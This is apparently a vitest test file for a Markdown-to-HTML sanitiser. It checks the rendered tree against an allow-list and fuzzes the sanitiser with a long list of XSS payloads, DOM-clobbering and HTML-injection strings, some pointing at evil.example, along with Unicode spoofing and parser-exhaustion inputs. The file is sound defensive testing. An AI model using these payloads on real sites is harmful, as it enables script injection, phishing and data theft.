import fc from 'fast-check'
import type { Element, Root } from 'hast'
import { describe, expect, test } from 'vitest'
import { allowList } from './allow-list.ts'
import { documentTree } from './document-tree.ts'

/** Markdown that wants to be more than text; most of these have broken some reader of Markdown or HTML. */
const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" onload=alert(1) style="background:url(https://evil.example)">',
  '<IMG SRC=javascript:alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Pjwvc2NyaXB0Pjwvc3ZnPg==">',
  '<img srcset="https://evil.example/a 1x" src=a.png>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src="</style><img src=x onerror=alert(1)>"></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example"><applet code=x>',
  '<form action="https://evil.example" method=post><input name=q value=1><button formaction="javascript:alert(1)">go</button></form>',
  '<input type=image src=https://evil.example/x autofocus onfocus=alert(1)>',
  '<input type=password name=password>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example)">over all</div>',
  '<div class="mantine-Modal-root" id=root>look like the app</div>',
  '<a id=gatehouse name=gatehouse href="x">clobber</a><form id=gatehouse name=request><input name=subscribe></form>',
  '<img name=getElementById><img id=__proto__ name=constructor>',
  '<video src=https://evil.example/v autoplay onloadstart=alert(1)></video><audio src=https://evil.example/a>',
  '<picture><source srcset="https://evil.example/x"><img src=x></picture>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee><body onload=alert(1)><html onclick=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><title><img src=x onerror=alert(1)></title><xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?><!DOCTYPE x>',
  '<p is="evil-element" slot=x part=y contenteditable tabindex=1 accesskey=x draggable=true>x</p>',
  '<a href="javascript:alert(1)" target=_blank ping="https://evil.example" download>x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1) "title")',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](vbscript:x) [x](data:text/html,<script>alert(1)</script>) [x](file:///etc/passwd) [x](blob:https://a/b)',
  '[x](gatehouse-app://app/index.html) [x](chrome://settings) [x](mailto:a@b.example) [x](ms-officecmd:x)',
  '<javascript:alert(1)> <data:text/html,x>',
  '![x](javascript:alert(1)) ![x](https://evil.example/track.png) ![x](data:text/html,x)',
  '![x][1]\n\n[1]: javascript:alert(1)',
  '[x][1]\n\n[1]: data:text/html,x "><img src=x onerror=alert(1)>"',
  'https://evil.example\u202Emoc.buhtig\u202C www.g\u0456thub.com',
  '[![x](https://evil.example/x.png)](javascript:alert(1))',
  '`<img src=x onerror=alert(1)>` and\n\n```html"><img src=x onerror=alert(1)>\nx\n```',
  '``` javascript onload=alert(1)\nx\n```',
  '# <img src=x onerror=alert(1)> heading {#root}',
  '# gatehouse\n# root\n# __proto__\n# constructor',
  '[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))',
  '[^__proto__]\n\n[^__proto__]: x',
  '- [x] <input type=file> done\n- [ ] open',
  '|a|b|\n|:-|-:|\n|<script>alert(1)</script>|<img src=x onerror=alert(1)>|',
  '<table><script>alert(1)</script><tr><td onclick=alert(1) background=https://evil.example style=x>a<td colspan=1000000000>',
  '<td>a cell alone</td>',
  '<mark title="U+202E">forged</mark><span title="x\u202Ey">t</span>',
  '<custom-element onclick=alert(1)>x</custom-element><x:y onclick=alert(1)>',
  '\u0000<scr\u0000ipt>alert(1)</script>',
  '<img src=x\u0000 onerror\u0000=alert(1)>',
]

const elementNames = new Set<string>([...allowList.tagNames, 'mark'])
const forEveryElement = new Set(['id', 'title'])
const attributes: Readonly<Record<string, ReadonlySet<string>>> = Object.fromEntries(
  Object.entries(allowList.attributes).map(([name, listed]) => [
    name,
    new Set(listed.map(one => String(typeof one === 'string' ? one : one[0]))),
  ]),
)

function getElements(node: Root | Element): readonly Element[] {
  return node.children.flatMap(child => (child.type === 'element' ? [child, ...getElements(child)] : []))
}

/** Fails when a tree holds anything that is not allowed. */
function expectOnlyAllowed(markdown: string): void {
  const { tree } = documentTree(markdown)
  const kinds = new Set<string>()
  const collect = (node: Root | Element): void => {
    for (const child of node.children) {
      kinds.add(child.type)
      if (child.type === 'element') collect(child)
    }
  }
  collect(tree)
  expect([...kinds].filter(kind => kind !== 'text' && kind !== 'element')).toEqual([])
  for (const { tagName, properties } of getElements(tree)) {
    expect(elementNames, markdown).toContain(tagName)
    for (const [name, value] of Object.entries(properties)) {
      if (value === undefined || value === null) continue
      expect(forEveryElement.has(name) || attributes[tagName]?.has(name), `${tagName} ${name}: ${markdown}`).toBe(true)
      expect(name).not.toMatch(/^on|style/i)
      if (name === 'id') expect(value).toMatch(/^user-content-/)
      if (name === 'href' || name === 'src') {
        const scheme = /^[^/?#]*?:/.exec(String(value))?.[0]
        expect([undefined, 'http:', 'https:'], `${value}: ${markdown}`).toContain(scheme?.toLowerCase())
      }
      if (name === 'className') {
        expect(String(value)).toMatch(/^(contains-task-list|task-list-item|footnotes|language-[\w+#.-]{1,40})?$/)
      }
    }
    if (tagName === 'input') expect(properties).toMatchObject({ type: 'checkbox', disabled: true })
  }
}

describe('A document', () => {
  test.each(payloads)('has only elements of the allow-list: %j', payload => {
    expectOnlyAllowed(payload)
    expectOnlyAllowed(`> - **${payload}**\n\n${payload}`)
  })

  test('is that also when such things are joined, cut and nested at random', () => {
    const piece = fc.oneof(
      fc.constantFrom(...payloads),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '&lt;',
        '\n\n',
        '\n> ',
        '- ',
        '`',
        '](',
        '![',
        '<!--',
        '-->',
        '<svg>',
        '<math>',
      ),
      fc.string({ maxLength: 8 }),
    )
    const markdown = fc.array(piece, { maxLength: 6 }).chain(pieces => {
      const whole = pieces.join('')
      return fc.nat(whole.length).map(end => whole.slice(0, end))
    })
    fc.assert(fc.property(markdown, expectOnlyAllowed), { numRuns: 500 })
  })

  test('loses the text of no harmless element', () => {
    const all = JSON.stringify(
      documentTree('# A\n\n- [x] b\n\n|c|\n|-|\n|d|\n\n[e](f.md) ~~g~~ `h` <kbd>i</kbd>[^1]\n\n[^1]: j').tree,
    )
    for (const letter of ['A', 'b', 'c', 'd', 'e', 'g', 'h', 'i', 'j'])
      expect(all).toMatch(new RegExp(`"value":" ?${letter}`))
  })

  test('marks invisible characters, in code too, and confusable letters', () => {
    const { tree } = documentTree('a\u202Eb `c\u200Bd`\n\np\u0430ypal <span title="x\u202Ey">t</span>')
    const marks = getElements(tree).filter(({ tagName }) => tagName === 'mark')
    expect(marks.map(({ properties }) => properties.title)).toEqual([
      'U+202E right-to-left override',
      'U+200B zero-width space',
      'U+0430 Cyrillic, in a word of another script',
    ])
    expect(JSON.stringify(tree)).not.toMatch(/\p{Bidi_Control}|\u200B/u)
  })

  test.each([
    ['nested quotes', `${'> '.repeat(2000)}x`],
    ['nested lists', Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')],
    ['nested emphasis', '*a **b '.repeat(5000)],
    ['open brackets', '['.repeat(20_000)],
    ['open images', '![a]('.repeat(5000)],
    ['backticks of every length', Array.from({ length: 400 }, (_, length) => '`'.repeat(length)).join(' ')],
    ['a wide table', `|${'a|'.repeat(3000)}\n|${'-|'.repeat(3000)}\n|${'b|'.repeat(3000)}`],
    ['a long table', `|a|b|\n|-|-|\n${'|<b>x</b>|y|\n'.repeat(10_000)}`],
    ['nothing but invisible characters', '\u202E'.repeat(50_000)],
  ])(
    'made to break its reader (%s) is bounded',
    (_what, markdown) => {
      const document = documentTree(markdown)
      const depth = (node: Root | Element): number =>
        1 + Math.max(0, ...node.children.map(child => (child.type === 'element' ? depth(child) : 0)))
      expect(depth(document.tree)).toBeLessThan(50)
      expect(getElements(document.tree).length).toBeLessThanOrEqual(8000)
    },
    120_000,
  )

  test('with elements nested too deeply for its reader is refused as a whole', () => {
    expect(() => documentTree('<div>'.repeat(20_000))).toThrow(RangeError)
  })
})

test('a line break in the alternative text of an image is a space, and hidden characters in it are still marked', () => {
  const drawn = JSON.stringify(documentTree('![build\nstatus](badge.png) ![a\u202Eb](c.png)').tree)
  expect(drawn).toContain('"alt":"build status"')
  expect(drawn).toContain('"alt":"a[RLO]b"')
})
